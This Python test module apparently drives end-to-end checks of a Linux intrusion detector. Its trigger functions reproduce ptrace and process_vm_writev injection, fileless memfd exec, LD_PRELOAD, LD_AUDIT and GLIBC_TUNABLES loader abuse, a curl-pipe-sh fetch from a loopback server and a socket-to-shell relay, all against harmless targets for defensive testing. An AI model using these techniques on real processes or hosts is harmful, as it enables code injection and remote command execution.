"""Trigger programs for the end-to-end test: each core detection with real syscalls.

``python -m tests.e2e.triggers NAME`` runs one; the process's own pid is what the alert
names (the tracer/writer, or the memfd exec which keeps its pid). Only harmless targets:
an orphaned grandchild of the trigger (reparented, so no longer its descendant: the shape
of injecting into a running process one did not start), anonymous memory, copies of
/bin/true.
"""

from __future__ import annotations

import ctypes
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

from tests.sensors.libc import (
    MAP_ANONYMOUS,
    MAP_PRIVATE,
    PROT_EXEC,
    PROT_READ,
    PROT_WRITE,
    IoVec,
    check,
    libc,
)

PTRACE_POKEDATA, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 5, 12, 13, 16, 17


def memfd() -> None:
    # A name of its own: a fileless exec is grouped with others of the same executable
    # (/memfd:<name>), and other runs of this trigger on the machine must not absorb this one.
    fd = os.memfd_create(f"mt-e2e-{os.getpid()}", 0)
    with open("/bin/true", "rb") as f:
        os.write(fd, f.read())
    os.execv(f"/proc/self/fd/{fd}", ["mt-e2e-memfd"])


def dev_shm() -> None:
    path = f"/dev/shm/mt-e2e-{os.getpid()}"
    shutil.copy("/bin/true", path)
    os.chmod(path, 0o755)
    try:
        subprocess.run([path], check=True)
    finally:
        os.unlink(path)


def _child_with_buffer() -> tuple[int, ctypes.Array[ctypes.c_char]]:
    """A victim process with ``buf`` at the same address, detached from the trigger's tree
    (double fork: its parent exits and it is reparented)."""
    buf = ctypes.create_string_buffer(64)  # same address in the forked processes
    r, w = os.pipe()
    mid = os.fork()
    if mid == 0:
        victim = os.fork()
        if victim == 0:
            os.close(r)
            os.close(w)
            time.sleep(30)
            os._exit(0)
        os.write(w, str(victim).encode())
        os._exit(0)
    os.close(w)
    pid = int(os.read(r, 32))
    os.close(r)
    os.waitpid(mid, 0)
    while os.getpid() in _parents(pid):  # wait until the victim is reparented
        time.sleep(0.01)
    time.sleep(0.05)
    return pid, buf


def _parents(pid: int) -> list[int]:
    out: list[int] = []
    while pid > 1 and len(out) < 64:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        out.append(pid)
    return out


def _reap(pid: int) -> None:
    os.kill(pid, signal.SIGKILL)


def ptrace() -> None:
    pid, buf = _child_with_buffer()
    try:
        check(libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0, "PTRACE_ATTACH")
        os.waitpid(pid, 0)
        check(libc.ptrace(PTRACE_POKEDATA, pid, ctypes.addressof(buf), 0x41) == 0, "PTRACE_POKEDATA")
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    finally:
        _reap(pid)


def setregs() -> None:
    """Register-only hijack: no POKE at all (an attacker would point rip at mapped code)."""
    pid, _buf = _child_with_buffer()
    regs = ctypes.create_string_buffer(27 * 8)  # struct user_regs_struct (x86_64)
    try:
        check(libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0, "PTRACE_ATTACH")
        os.waitpid(pid, 0)
        check(libc.ptrace(PTRACE_GETREGS, pid, None, regs) == 0, "PTRACE_GETREGS")
        check(libc.ptrace(PTRACE_SETREGS, pid, None, regs) == 0, "PTRACE_SETREGS")
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    finally:
        _reap(pid)


def _slow_server(body: bytes) -> int:
    """A loopback staging server in a thread that sends ``body`` slowly; returns its port."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)

    def serve() -> None:
        conn, _ = srv.accept()
        with conn:
            conn.recv(4096)
            conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body[:8])
            time.sleep(1.0)
            conn.sendall(body[8:])
        srv.close()

    threading.Thread(target=serve, daemon=True).start()
    return int(srv.getsockname()[1])


def curl_sh() -> None:
    """curl | sh with curl copied to a random name, the pipeline built by this process."""
    d = tempfile.mkdtemp(prefix="mt-e2e-")
    x1 = os.path.join(d, "x1")
    shutil.copy2("/usr/bin/curl", x1)
    try:
        port = _slow_server(b"# stage\nsleep 1; echo mt-e2e-curl-sh\n")
        dl = subprocess.Popen([x1, "-s", f"http://127.0.0.1:{port}/s.sh"], stdout=subprocess.PIPE)
        sh = subprocess.Popen(["/bin/sh"], stdin=dl.stdout, stdout=subprocess.DEVNULL)
        assert dl.stdout is not None
        dl.stdout.close()
        check(sh.wait(30) == 0 and dl.wait(30) == 0, "curl | sh")
    finally:
        shutil.rmtree(d)


def pipe_relay() -> None:
    """A relay that holds the connection and pipes to a shell (no socket on the shell's fds)."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    got: list[bytes] = []

    def operator() -> None:
        conn, _ = srv.accept()
        with conn:
            time.sleep(0.5)
            conn.sendall(b"echo mt-e2e-relay\nexit\n")
            got.append(conn.recv(4096))

    t = threading.Thread(target=operator, daemon=True)
    t.start()
    s = socket.create_connection(srv.getsockname())
    sh = subprocess.Popen(
        ["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    assert sh.stdin is not None and sh.stdout is not None
    for line in s.makefile("rb"):
        sh.stdin.write(line)
        sh.stdin.flush()
        if line.strip() == b"exit":
            break
    sh.stdin.close()
    s.sendall(sh.stdout.read())
    sh.wait()
    t.join(10)
    s.close()
    srv.close()
    check(bool(got) and b"mt-e2e-relay" in got[0], "relay")


def vm_writev() -> None:
    pid, buf = _child_with_buffer()
    try:
        data = ctypes.create_string_buffer(b"mt-e2e")
        local = IoVec(ctypes.addressof(data), 6)
        remote = IoVec(ctypes.addressof(buf), 6)
        n = libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        check(n == 6, "process_vm_writev")
    finally:
        _reap(pid)


def proc_mem() -> None:
    pid, _buf = _child_with_buffer()
    try:
        os.close(os.open(f"/proc/{pid}/mem", os.O_WRONLY))
    finally:
        _reap(pid)


def mmap_wx() -> None:
    addr = libc.mmap(None, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)
    check(addr not in (None, ctypes.c_void_p(-1).value), "mmap RWX")


def mprotect_wx() -> None:
    addr = libc.mmap(None, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)
    check(addr not in (None, ctypes.c_void_p(-1).value), "mmap RW")
    ctypes.memset(addr, 0xC3, 1)  # ret
    check(libc.mprotect(addr, 4096, PROT_READ | PROT_EXEC) == 0, "mprotect RX")


def ld_preload() -> None:
    lib = os.path.join(tempfile.gettempdir(), f"mt-e2e-preload-{os.getpid()}.so")
    shutil.copy(
        next(
            p
            for p in ("/lib/x86_64-linux-gnu/libm.so.6", "/usr/lib/x86_64-linux-gnu/libm.so.6")
            if os.path.exists(p)
        ),
        lib,
    )
    try:
        os.execve("/bin/true", ["/bin/true"], {**os.environ, "LD_PRELOAD": lib})
    finally:  # only reached if execve failed
        os.unlink(lib)


LOADER = "/lib64/ld-linux-x86-64.so.2"


def _child_exec(argv: list[str], env: dict[str, str]) -> None:
    """fork; the child execs ``argv`` (its ppid is this trigger's pid); wait for it."""
    pid = os.fork()
    if pid == 0:
        try:
            os.execve(argv[0], argv, env)
        finally:
            os._exit(127)
    os.waitpid(pid, 0)


def ld_preload_deep() -> None:
    """LD_PRELOAD as the 200th variable, after ~30 KiB of filler (past any count-bounded scan)."""
    env = {f"F{i:03d}": "x" * 150 for i in range(199)}
    env["LD_PRELOAD"] = f"/tmp/mt-e2e-preload-deep-{os.getpid()}.so"  # never created: ld.so warns
    # not /bin/true: the worker folds a repeat of the plain ld_preload case (same pattern,
    # same program) into that incident
    _child_exec(["/bin/sleep", "0"], env)


def ld_audit() -> None:
    _child_exec(
        ["/bin/true"], {"PATH": "/usr/bin:/bin", "LD_AUDIT": f"/dev/shm/mt-e2e-audit-{os.getpid()}.so"}
    )


def glibc_tunables() -> None:
    """CVE-2023-4911 shape: a tunable whose value holds "name=", thousands of bytes long."""
    value = "glibc.malloc.mxfast=glibc.malloc.mxfast=" + "A" * 6000
    _child_exec(["/bin/true"], {"PATH": "/usr/bin:/bin", "GLIBC_TUNABLES": value})


def ldso_shm() -> None:
    """The loader runs a program staged in /dev/shm (no execve of the program itself)."""
    prog = f"/dev/shm/mt-e2e-ldso-{os.getpid()}"
    shutil.copy2("/bin/true", prog)
    try:
        _child_exec([LOADER, prog], dict(os.environ))
    finally:
        os.unlink(prog)


def ldso_preload() -> None:
    """``ld.so --preload /tmp/lib.so /bin/true``: LD_PRELOAD without the variable."""
    lib = os.path.join(tempfile.gettempdir(), f"mt-e2e-preload-ldso-{os.getpid()}.so")
    shutil.copy(
        next(
            p
            for p in ("/lib/x86_64-linux-gnu/libm.so.6", "/usr/lib/x86_64-linux-gnu/libm.so.6")
            if os.path.exists(p)
        ),
        lib,
    )
    try:
        _child_exec([LOADER, "--preload", lib, "/bin/true"], dict(os.environ))
    finally:
        os.unlink(lib)


TRIGGERS = {
    "ld_preload_deep": ld_preload_deep,
    "ld_audit": ld_audit,
    "glibc_tunables": glibc_tunables,
    "ldso_shm": ldso_shm,
    "ldso_preload": ldso_preload,
    "memfd": memfd,
    "dev_shm": dev_shm,
    "ptrace": ptrace,
    "setregs": setregs,
    "curl_sh": curl_sh,
    "pipe_relay": pipe_relay,
    "vm_writev": vm_writev,
    "proc_mem": proc_mem,
    "mmap_wx": mmap_wx,
    "mprotect_wx": mprotect_wx,
    "ld_preload": ld_preload,
}

if __name__ == "__main__":
    TRIGGERS[sys.argv[1]]()
